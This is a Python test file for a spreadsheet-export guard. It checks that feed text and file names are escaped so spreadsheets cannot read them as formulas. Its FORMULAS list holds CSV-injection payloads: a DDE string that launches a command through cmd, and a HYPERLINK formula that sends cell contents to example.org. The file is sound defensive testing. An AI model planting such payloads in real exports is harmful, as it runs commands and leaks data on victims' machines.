"""No text of a feed becomes a formula when somebody opens what a command wrote."""

import csv
from collections.abc import Mapping
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.spreadsheets import guarded, guarded_column, unguarded
from tests.cli.calling import call, check, write
from tests.orchestration.installations import deliver, made_up

FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "'=1+1",
)
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
texts = st.text(st.sampled_from("=+-@\t\r\n\0'aé1 "), max_size=6) | st.text(max_size=6)


def is_dangerous(cell: str) -> bool:
    """Whether a spreadsheet may take the cell for a formula (OWASP ASVS 5.0, 1.2.10)."""
    return cell.startswith(SIGNS)


@given(texts)
def test_no_guarded_text_is_dangerous_and_every_text_comes_back(text: str) -> None:
    """
    What is written can be read again without doubt.
    """
    assert not is_dangerous(guarded(text))
    assert text == unguarded(guarded(text))
    assert guarded(text) in (text, f"'{text}")


@given(st.lists(texts, min_size=1))
def test_a_column_is_guarded_as_its_texts_are(column: list[str]) -> None:
    """
    Two ways of writing, one rule.
    """
    frame = pl.DataFrame({"urn": column}).select(guarded_column("urn"))

    assert [guarded(text) for text in column] == frame["urn"].to_list()


@pytest.mark.parametrize("value", [-3.25, 7, None, True])
def test_what_is_no_text_is_written_as_it_is(value: object) -> None:
    """
    A weight below nought is a number.
    """
    assert value is guarded(value)


def test_the_answer_of_a_dry_run_holds_no_formula(exports: Path) -> None:
    """
    Every identifier of both feeds is a formula here, in pairings, referrals and nearest URNs.
    """
    referrals, documents = made_up()
    write(exports / "r.csv", [_spoiled(row, "referral_id", n) for n, row in enumerate(referrals)])
    write(exports / "d.csv", [_spoiled(row, "urn", n) for n, row in enumerate(documents)])

    assert 1 == check(exports / "answer").code

    for name, columns in {
        "pairings.csv": ("referral_id", "urn"),
        "referrals.csv": ("referral_id", "reason", "nearest_urn"),
    }.items():
        cells = _cells(exports / "answer" / name)
        assert [] == [text for row in cells for key in columns if is_dangerous(text := row[key])]
        for key in set(columns) - {"reason"}:
            texts = {unguarded(row[key]) for row in cells} - {""}
            assert {text.startswith(FORMULAS) for text in texts} == {True}
    bits = [row["nearest_weight"] for row in _cells(exports / "answer" / "referrals.csv")]
    assert [] != [text for text in bits if text.startswith("-")]


def test_an_export_of_the_quarantine_holds_no_formula(home: Path) -> None:
    """
    The file's own name is the sender's text.
    """
    bad = {**made_up()[0][0], "referred_at": "=1+1"}
    deliver(home, "=1+1.csv", [bad], feed="referrals")
    assert 1 == call("receive", home=home).code

    assert 0 == call("quarantine", "export", home / "x.csv", home=home).code

    cells = _cells(home / "x.csv")
    assert "=1+1.csv" == unguarded(cells[0]["file"])
    assert [] == [text for row in cells for text in row.values() if is_dangerous(text)]


def _spoiled(row: Mapping[str, str], key: str, number: int) -> dict[str, str]:
    return {**row, key: f"{FORMULAS[number % len(FORMULAS)]} {row[key]}"}


def _cells(file: Path) -> list[dict[str, str]]:
    with file.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))
